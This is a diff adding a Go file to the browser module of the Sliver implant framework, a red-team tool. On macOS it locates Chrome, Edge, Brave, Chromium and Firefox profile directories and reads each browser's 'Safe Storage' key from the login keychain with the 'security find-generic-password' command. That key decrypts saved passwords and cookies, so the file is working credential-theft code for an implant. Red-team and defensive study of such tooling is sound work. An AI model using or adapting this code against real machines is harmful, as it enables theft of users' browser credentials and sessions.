@@ -0,0 +1,58 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+)
+
+func chromiumBrowsers() []chromiumBrowser {
+	support := filepath.Join(homeDir(), "Library", "Application Support")
+	return []chromiumBrowser{
+		{name: "chrome", userData: filepath.Join(support, "Google", "Chrome"), keyName: "Chrome Safe Storage"},
+		{name: "edge", userData: filepath.Join(support, "Microsoft Edge"), keyName: "Microsoft Edge Safe Storage"},
+		{name: "brave", userData: filepath.Join(support, "BraveSoftware", "Brave-Browser"), keyName: "Brave Safe Storage"},
+		{name: "chromium", userData: filepath.Join(support, "Chromium"), keyName: "Chromium Safe Storage"},
+	}
+}
+
+func firefoxProfileDirs() []string {
+	return []string{filepath.Join(homeDir(), "Library", "Application Support", "Firefox", "Profiles")}
+}
+
+// chromiumSecret - The "Safe Storage" password from the login keychain, reading
+// it shows an authorization prompt unless the user previously chose "Always Allow"
+func chromiumSecret(browser chromiumBrowser) ([]byte, error) {
+	output, err := exec.Command("security", "find-generic-password", "-w", "-s", browser.keyName).Output()
+	if err != nil {
+		return nil, err
+	}
+	return []byte(strings.TrimRight(string(output), "\r\n")), nil
+}
+
+func homeDir() string {
+	home, err := os.UserHomeDir()
+	if err != nil {
+		return os.Getenv("HOME")
+	}
+	return home
+}